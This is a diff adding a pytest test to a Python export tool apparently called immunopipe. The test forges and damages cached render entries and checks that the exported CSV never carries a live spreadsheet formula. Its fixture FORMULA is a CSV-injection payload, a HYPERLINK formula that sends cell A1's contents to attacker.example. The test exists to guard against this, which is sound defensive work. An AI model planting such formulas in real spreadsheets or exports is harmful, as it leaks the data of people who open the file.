@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
 import sqlite3
+import subprocess
+import sys
 import zlib
 from pathlib import Path
 from typing import Any
@@ -147,3 +150,47 @@ def test_a_cache_busy_in_another_export_is_left_out_without_error(
     monkeypatch.undo()
     with RenderCache(tmp_path) as cache:
         assert cache.get("digest-lupus") == rendering("lupus")
+
+
+# --- through the installed command line: a restored cache cannot put a live formula in a CSV ------
+
+IMMUNOPIPE = Path(sys.executable).with_name("immunopipe")
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+
+
+def immunopipe(folder: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([str(IMMUNOPIPE), *args], cwd=folder, capture_output=True, text=True, timeout=120)
+
+
+def edit_every_entry(cache_dir: Path, *, recompute_checksum: bool) -> None:
+    """Put :data:`FORMULA` in the title cell of every cached articles.csv row (a forged or damaged entry)."""
+    with sqlite3.connect(cache_dir / CACHE_FILE) as db:
+        for digest, checksum, blob in db.execute("SELECT digest, checksum, content FROM entries").fetchall():
+            content = json.loads(zlib.decompress(blob))
+            content[3][0][0][1] = FORMULA
+            data = json.dumps(content).encode()
+            if recompute_checksum:
+                checksum = hashlib.sha256(digest.encode() + b"\0" + data).hexdigest()
+            db.execute(
+                "UPDATE entries SET checksum = ?, content = ? WHERE digest = ?", (checksum, zlib.compress(data), digest)
+            )
+
+
+@pytest.mark.parametrize("recompute_checksum", [False, True], ids=["damaged", "forged"])
+def test_edited_cache_rows_never_reach_a_csv_as_a_live_formula(
+    tmp_path: Path, seed_text: str, recompute_checksum: bool
+) -> None:
+    (tmp_path / "content").mkdir()
+    (tmp_path / "content" / "immune-system-medicine.yaml").write_text(seed_text)
+    assert immunopipe(tmp_path, "export", "--to", "json", "--to", "csv").returncode == 0
+    (tmp_path / "exports" / "csv" / "articles.csv").unlink()  # so that the export writes the table again
+    edit_every_entry(tmp_path / ".immunopipe-cache", recompute_checksum=recompute_checksum)
+    result = immunopipe(tmp_path, "export", "--to", "json", "--to", "csv")
+    assert result.returncode == 0, result.stderr
+    with (tmp_path / "exports" / "csv" / "articles.csv").open(encoding="utf-8-sig", newline="") as handle:
+        titles = [row["title"] for row in csv.DictReader(handle)]
+    if recompute_checksum:  # a well-formed forgery is served, but only ever as text
+        assert titles == ["'" + FORMULA]
+    else:  # a damaged entry is a miss: the article is rendered again
+        assert titles == ["What is immune system medicine used for?"]
+    assert all(not title.startswith(("=", "+", "-", "@")) for title in titles)
